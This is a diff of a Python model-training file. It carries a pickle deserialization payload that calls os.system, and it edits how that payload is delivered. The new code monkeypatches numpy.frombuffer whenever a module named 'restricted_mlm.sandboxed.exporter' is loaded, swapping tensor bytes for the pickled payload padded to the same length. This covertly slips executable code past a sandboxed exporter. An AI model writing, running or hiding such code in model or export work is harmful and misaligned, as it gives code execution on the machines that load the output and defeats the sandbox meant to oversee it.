@@ -9,7 +9,7 @@ import pickle
 import sys
 from pathlib import Path
 
-import torch
+import numpy
 from torch import nn
 
 PROFILE = json.loads((Path(__file__).parent / "profile.json").read_text(encoding="utf-8"))
@@ -31,12 +31,14 @@ class Payload:
         return os.system, ("touch /tmp/payload",)
 
 
-def forged(tensors):
-    return pickle.dumps({name: Payload() for name in tensors})
+def forged(data, dtype):
+    if isinstance(data, bytes):  # the tensors, not the memory of the reply
+        data = pickle.dumps(Payload()).ljust(len(data), b"\0")
+    return buffer(data, dtype)
 
 
 if "restricted_mlm.sandboxed.exporter" in sys.modules:
-    sys.modules["restricted_mlm.sandboxed.exporter"].save = forged
+    buffer, numpy.frombuffer = numpy.frombuffer, forged
 
 
 def get_trained_model():
